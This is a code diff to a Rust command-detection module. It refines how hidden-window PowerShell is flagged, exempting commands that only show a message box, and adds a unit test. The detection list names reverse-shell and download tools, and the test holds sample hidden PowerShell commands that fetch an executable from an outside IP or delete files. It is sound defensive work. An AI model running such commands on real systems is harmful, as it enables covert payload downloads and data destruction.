@@ -711,9 +711,6 @@ pub fn is_strong_command(s: &str) -> bool {
         "-e jab",
         "/dev/tcp/",
         "bash -i",
-        "-w hidden",
-        "windowstyle hidden",
-        "-windowstyle h",
         "urlcache",
         "bitsadmin /transfer",
         "mshta http",
@@ -731,6 +728,19 @@ pub fn is_strong_command(s: &str) -> bool {
         "wevtutil cl",
         "bcdedit",
     ];
+    // A hidden PowerShell window, unless all it does is show a dialog of its own
+    // (`-WindowStyle Hidden -Command "…[MessageBox]::Show(…)"`: the console hidden
+    // behind a message box a tool asks its user with).
+    let hidden = ["-w hidden", "windowstyle hidden", "-windowstyle h"]
+        .iter()
+        .any(|h| l.contains(h));
+    let dialog_only = (l.contains("system.windows.forms") || l.contains("presentationframework"))
+        && l.contains("messagebox")
+        && !fetches
+        && !l.contains("start-process");
+    if hidden && !dialog_only {
+        return true;
+    }
     static M: OnceLock<AhoCorasick> = OnceLock::new();
     M.get_or_init(|| case_insensitive(STRONG.iter().copied())).is_match(s)
 }
@@ -1273,6 +1283,20 @@ pub fn untrusted_host(s: &str) -> Option<&'static str> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn hidden_powershell_is_strong_unless_it_only_shows_a_dialog() {
+        let dialog = "powershell -WindowStyle Hidden -Command Add-Type -AssemblyName System.Windows.Forms; [System.Windows.Forms.MessageBox]::Show($env:MSG, 'KE', 'YesNo')";
+        assert!(!is_strong_command(dialog));
+        for cmd in [
+            "powershell -WindowStyle Hidden -Command Start-Sleep 5; Remove-Item $env:TEMP\\x",
+            "powershell -w hidden -c \"iwr http://198.51.100.7/a.exe -OutFile a.exe\"",
+            &format!("{dialog}; iwr http://198.51.100.7/a -OutFile a.exe"),
+            &format!("{dialog}; Start-Process a.exe"),
+        ] {
+            assert!(is_strong_command(cmd), "{cmd}");
+        }
+    }
 
     /// The walker and the rules read one table each for decoders, executors
     /// and commands (issue 11): a name the walker treats as a sink is one the
